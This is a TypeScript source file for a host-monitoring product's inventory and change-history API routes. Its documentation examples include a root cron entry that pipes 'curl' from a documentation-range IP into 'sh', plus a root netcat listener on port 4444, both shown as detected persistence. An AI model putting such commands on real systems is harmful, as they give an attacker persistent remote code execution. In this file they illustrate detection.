// Inventory routes: agents report inventory tables on the agent listener (mutual TLS); the API answers the current
// inventory, the inventory at a past time, and "what changed on this host since T" (inventory diffs + change records).
// Never applies a report that failed validation, in part or whole; never answers for a host that is not enrolled.

import type { FastifyInstance } from 'fastify';
import { VigilError } from '@vigil/common';
import { inventoryTableByName } from '@vigil/schema';
import { decodeInventoryReport, inventoryPaths } from '@vigil/protocol/inventory';
import type { EventStore } from '@vigil/store';
import type { ControlPlane } from '../control-plane/sqlite.js';
import type { InventoryDb } from '../inventory/inventory-db.js';
import { CHANGE_RECORD_CATEGORIES, hostChanges } from '../inventory/host-changes.js';
import { errorResponse } from './errors.js';

export interface InventoryRouteDeps {
  controlPlane: ControlPlane;
  inventory: InventoryDb;
  store: EventStore;
}

const tableNames = [...inventoryTableByName.keys()];
const exampleHostId = '1f0c3a52-4b1e-4c3b-9a7d-6c1e2b3a4d5f';
const isoDate = { type: 'string', format: 'date-time' };
const row = { type: 'object', additionalProperties: true, description: 'An inventory row: flat object with dotted field names (docs/schema.md, inventory tables), with host.id and inventory.collected (when this version was collected)' };
const exampleUser = {
  'host.id': exampleHostId, 'inventory.collected': '2026-12-05T10:00:00.000Z', 'user.name': 'alice', 'user.id': '1001', 'group.id': '1001', 'user.home': '/home/alice', 'user.shell': '/bin/bash',
  'user.password_status': 'locked', 'user.locked': true, 'user.privileged': false, 'user.groups': ['alice'],
};
const examplePort = {
  'host.id': exampleHostId, 'inventory.collected': '2026-12-05T10:05:00.000Z', 'network.transport': 'tcp', 'network.type': 'ipv4', 'server.ip': '0.0.0.0', 'server.port': 4444,
  'user.id': '0', 'user.name': 'root', 'process.pid': 31337, 'process.name': 'nc', 'process.executable': '/usr/bin/nc.openbsd',
};
const tableView = {
  type: 'object',
  required: ['rows', 'count', 'total', 'collected_at'],
  properties: {
    rows: { type: 'array', items: row },
    count: { type: 'integer', description: 'Rows in this answer (at most limit)' },
    total: { type: 'integer', description: 'Rows of the table at that time' },
    collected_at: { ...isoDate, nullable: true, description: 'When the agent last read the table (for ?at: when the newest version shown was collected); null when the agent never sent it' },
  },
};
const transition = {
  type: 'object',
  required: ['at', 'table', 'key', 'change', 'before', 'after', 'fields'],
  properties: {
    at: { ...isoDate, description: 'When the agent collected the change' },
    table: { type: 'string', enum: tableNames },
    key: { type: 'string', description: "The row's key fields as a JSON array text, e.g. [\"alice\"] or [\"tcp\",\"0.0.0.0\",4444]" },
    change: { type: 'string', enum: ['added', 'removed', 'modified', 'baseline'], description: 'baseline: part of the first snapshot of the table (only with baseline=true)' },
    before: { ...row, nullable: true },
    after: { ...row, nullable: true },
    fields: { type: 'array', items: { type: 'string' }, description: 'Fields that differ (modified), or the fields of the row (added, removed, baseline)' },
  },
};
const record = {
  type: 'object',
  additionalProperties: true,
  description:
    'A change record: a stored event of category autostart, iam, service or driver (docs/schema.md) with change.before, change.after, change.diff and the before/after sha256. acting_process is added when the record has no process and file telemetry saw a write to the same path just before.',
  properties: {
    acting_process: {
      type: 'object',
      required: ['pid', 'event_id', 'action'],
      properties: { pid: { type: 'integer' }, name: { type: 'string' }, executable: { type: 'string' }, command_line: { type: 'string' }, user: { type: 'string' }, entity_id: { type: 'string' }, event_id: { type: 'string' }, action: { type: 'string' } },
    },
  },
};
const exampleRecord = {
  '@timestamp': '2026-12-05T10:03:12.417Z', 'event.id': '6a1f0c3e-2b4d-4f7a-8e9c-1d2b3c4d5e6f', 'event.sequence': 812, 'event.category': 'autostart', 'event.action': 'created', 'event.type': 'creation', 'event.provider': 'filesystem',
  'host.id': exampleHostId, message: 'cron entry /etc/cron.d/update created', 'autostart.location': 'cron', 'autostart.name': 'update', 'autostart.command': '*/5 * * * * root curl -s http://203.0.113.7/x | sh', 'autostart.user': 'root',
  'file.path': '/etc/cron.d/update', 'file.hash.sha256': 'aa2f7ee0c7b8be36f6b95ff94ee2ae9c7e9bbc0d62e9d4de1c8d0d2b4ad6b0c1',
  'change.after': '*/5 * * * * root curl -s http://203.0.113.7/x | sh\n', 'change.diff': '--- a/etc/cron.d/update\n+++ b/etc/cron.d/update\n@@ -0,0 +1 @@\n+*/5 * * * * root curl -s http://203.0.113.7/x | sh\n',
  'change.after_sha256': 'aa2f7ee0c7b8be36f6b95ff94ee2ae9c7e9bbc0d62e9d4de1c8d0d2b4ad6b0c1',
  acting_process: { pid: 4242, name: 'tee', executable: '/usr/bin/tee', command_line: 'tee /etc/cron.d/update', user: 'root', event_id: '0d4b9f5e-8c1a-4e55-9a37-2f1c6e7b9a10', action: 'create' },
};
const hostParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', maxLength: 64 } } };

function parseTime(text: string | undefined, name: string): number | undefined {
  if (text === undefined) return undefined;
  const ms = Date.parse(text);
  if (Number.isNaN(ms)) throw new VigilError('invalid_input', `${name} must be an ISO 8601 time such as 2026-12-05T10:00:00Z`, { location: { path: name } });
  return ms;
}

export function registerInventoryRoutes(app: FastifyInstance, deps: InventoryRouteDeps): void {
  const { controlPlane, inventory, store } = deps;
  const requireHost = (id: string) => {
    if (!controlPlane.getAgent(id)) throw new VigilError('not_found', `no host ${id}`);
  };

  app.get(
    '/api/v1/hosts/:id/inventory',
    {
      config: { permission: 'hosts:read' },
      schema: {
        tags: ['hosts'],
        summary: 'Inventory of a host: now, or as it was at a time',
        description:
          'The host, users, groups, services, executables (sha256, ELF metadata, setuid), installed packages, listening ports with their process and kernel modules, as last reported by the agent; with ?at= the inventory as it was then (every version is kept). Each table is capped at limit rows, ordered by key.',
        params: hostParams,
        querystring: {
          type: 'object',
          additionalProperties: false,
          properties: {
            at: { ...isoDate, description: 'The inventory as it was at this time' },
            table: { type: 'string', enum: tableNames, description: 'Only this table' },
            limit: { type: 'integer', minimum: 1, maximum: 50_000, default: 5000, description: 'Most rows per table' },
          },
        },
        response: {
          200: {
            description: 'The inventory, per table',
            type: 'object',
            required: ['host_id', 'at', 'tables'],
            properties: { host_id: { type: 'string' }, at: { ...isoDate, nullable: true }, tables: { type: 'object', additionalProperties: tableView } },
            examples: [
              {
                host_id: exampleHostId,
                at: null,
                tables: {
                  users: { rows: [exampleUser], count: 1, total: 1, collected_at: '2026-12-05T10:00:00.000Z' },
                  listening_ports: { rows: [examplePort], count: 1, total: 1, collected_at: '2026-12-05T10:05:00.000Z' },
                },
              },
            ],
          },
        },
      },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      requireHost(id);
      const q = request.query as { at?: string; table?: string; limit: number };
      const at = parseTime(q.at, 'at');
      return { host_id: id, at: at === undefined ? null : new Date(at).toISOString(), tables: inventory.snapshot(id, { ...(at !== undefined ? { at } : {}), ...(q.table ? { tables: [q.table] } : {}), limit: q.limit }) };
    },
  );

  app.get(
    '/api/v1/hosts/:id/changes',
    {
      config: { permission: 'events:read' },
      schema: {
        tags: ['hosts'],
        summary: 'What changed on a host since a time: inventory diffs and change records',
        description:
          `Everything that changed on the host in [since, until): inventory rows added, removed or modified (users, groups, services, executables, packages, listening ports, kernel modules, the host itself; with the versions before and after and the fields that differ), and the change records the agent sent (categories ${CHANGE_RECORD_CATEGORIES.join(', ')}: cron, at, systemd units, init scripts, rc.local, profile and shell rc files, authorized_keys, ld.so.preload, udev rules, accounts, groups, sudoers, services enabled or removed, kernel modules), each with its unified diff and before/after sha256. Oldest first. Rows of a table's first snapshot are left out unless baseline=true.`,
        params: hostParams,
        querystring: {
          type: 'object',
          additionalProperties: false,
          properties: {
            since: { ...isoDate, description: 'Start of the period (inclusive; default 24 hours ago)' },
            until: { ...isoDate, description: 'End of the period (exclusive; default now)' },
            table: { type: 'string', enum: tableNames, description: 'Only inventory changes of this table' },
            baseline: { type: 'boolean', default: false, description: 'Include the rows of first snapshots' },
            limit: { type: 'integer', minimum: 1, maximum: 10_000, default: 1000, description: 'Most inventory changes and most records' },
          },
        },
        response: {
          200: {
            description: 'Changes, oldest first',
            type: 'object',
            required: ['host_id', 'since', 'until', 'inventory', 'records', 'truncated', 'baseline_omitted'],
            properties: {
              host_id: { type: 'string' },
              since: isoDate,
              until: isoDate,
              inventory: { type: 'array', items: transition },
              records: { type: 'array', items: record },
              truncated: { type: 'object', required: ['inventory', 'records'], properties: { inventory: { type: 'boolean' }, records: { type: 'boolean' } }, description: 'More than limit existed; narrow the period' },
              baseline_omitted: { type: 'integer', description: 'Rows of first snapshots in the period that were left out' },
            },
            examples: [
              {
                host_id: exampleHostId,
                since: '2026-12-05T10:00:00.000Z',
                until: '2026-12-05T11:00:00.000Z',
                inventory: [
                  { at: '2026-12-05T10:03:00.000Z', table: 'users', key: '["alice"]', change: 'added', before: null, after: exampleUser, fields: Object.keys(exampleUser).filter((k) => k !== 'host.id' && k !== 'inventory.collected').sort() },
                  { at: '2026-12-05T10:05:00.000Z', table: 'listening_ports', key: '["tcp","0.0.0.0",4444]', change: 'added', before: null, after: examplePort, fields: ['network.transport', 'network.type', 'process.executable', 'process.name', 'process.pid', 'server.ip', 'server.port', 'user.id', 'user.name'] },
                ],
                records: [exampleRecord],
                truncated: { inventory: false, records: false },
                baseline_omitted: 0,
              },
            ],
          },
          400: errorResponse(400, { code: 'invalid_input', message: 'until must be after since' }),
        },
      },
    },
    async (request) => {
      const { id } = request.params as { id: string };
      requireHost(id);
      const q = request.query as { since?: string; until?: string; table?: string; baseline: boolean; limit: number };
      const since = parseTime(q.since, 'since') ?? Date.now() - 86_400_000;
      const until = parseTime(q.until, 'until') ?? Date.now() + 1;
      if (until <= since) throw new VigilError('invalid_input', 'until must be after since', { location: { path: 'until' } });
      return hostChanges({ inventory, store }, id, { since, until, limit: q.limit, baseline: q.baseline, ...(q.table ? { tables: [q.table] } : {}) });
    },
  );
}

/** The agent listener's inventory report (mutual TLS; the agent id comes from the client certificate). */
export function registerInventoryAgentRoutes(app: FastifyInstance, deps: { inventory: InventoryDb }): void {
  app.post(inventoryPaths.report, async (request) => {
    const agentId = request.agentId;
    if (!agentId) throw new VigilError('unauthenticated', 'no agent identity');
    if (!Buffer.isBuffer(request.body)) throw new VigilError('invalid_input', 'send the inventory report as application/json');
    return deps.inventory.apply(agentId, decodeInventoryReport(request.body, agentId));
  });
}
